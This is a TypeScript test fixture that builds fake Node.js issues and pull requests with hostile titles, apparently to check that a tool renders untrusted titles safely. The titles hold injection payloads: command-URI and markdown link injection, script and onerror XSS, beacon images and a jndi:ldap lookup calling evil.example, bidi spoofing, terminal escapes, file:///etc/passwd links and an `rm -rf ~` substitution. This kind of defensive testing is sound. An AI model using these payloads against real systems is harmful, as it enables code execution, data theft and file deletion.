import { issue, pull, type Row } from "../item.js";

/** Titles that try to become something else: a link, a command, an icon, a heading, an image, a mention. */
const hostileTitles: readonly string[] = [
  "](command:workbench.action.terminal.new) [click me",
  "[Release notes](command:minutes.openSample?%5B%22x%22%5D)",
  "Harmless](https://evil.example/) [and not",
  "![beacon](https://evil.example/beacon.png)",
  '<img src="https://evil.example/beacon.png" onerror="alert(1)">',
  "<script>alert(1)</script>",
  "<!-- the rest of the document disappears",
  "$(check) Approved by everyone $(verified)",
  "First line\n## A heading of its own",
  "First line\r\n* [#1](https://evil.example/) a second item",
  "line\u2028separator and paragraph\u2029separator",
  "Invoice \u202Egnp.exe\u202C and \u2066isolated\u2069 text",
  "zero\u200Bwidth\u200Dand\uFEFFinvisible",
  "bell \u0007 escape \u001B[31mred\u001B[0m null-like \u0001",
  "`code` ``more`` ``` and a fence",
  "*emphasis* _emphasis_ **strong** ~~gone~~ \\*escaped\\*",
  "&lt;b&gt;entities&lt;/b&gt; &#x5d;(command:x)",
  "| a | table |\n| --- | --- |",
  "@nodejs/tsc @mhdawson please look; Fixes #1, closes nodejs/node#2",
  "[#1](https://github.com/nodejs/node/issues/1) inside [brackets [nested]] and [unclosed",
  "back\\slash at the end \\",
  "# heading, - list, 1. number, > quote, [x] box",
  "javascript:alert(1) vscode://file/etc/passwd file:///etc/passwd",
  "<https://evil.example/> and https://evil.example/auto and www.evil.example",
  "[ref]: https://evil.example/ 'title'",
  "$HOME `rm -rf ~` ${jndi:ldap://evil.example/a} {{owner}} %s %d",
  "emoji 👩‍👩‍👧‍👦 and 𝕬𝖘𝖙𝖗𝖆𝖑 and Z̷̢a̵l̶g̸o̷",
  "    four spaces and\ttabs   ",
  "__proto__ constructor toString",
  "]".repeat(60) + "(command:x)",
  "A title of a thousand characters: ".padEnd(1000, "long "),
];

export const hostileItems: Readonly<Record<string, readonly Row[]>> = {
  "nodejs/hostile-titles": hostileTitles.map((title, index) => {
    const make = index % 4 === 3 ? pull : issue;
    return make(index + 1, title, "GrosSacASac", "2024-02-29", {
      labels: ["hostile-agenda"],
      body: `${title}\n\n${title}`,
    });
  }),
};
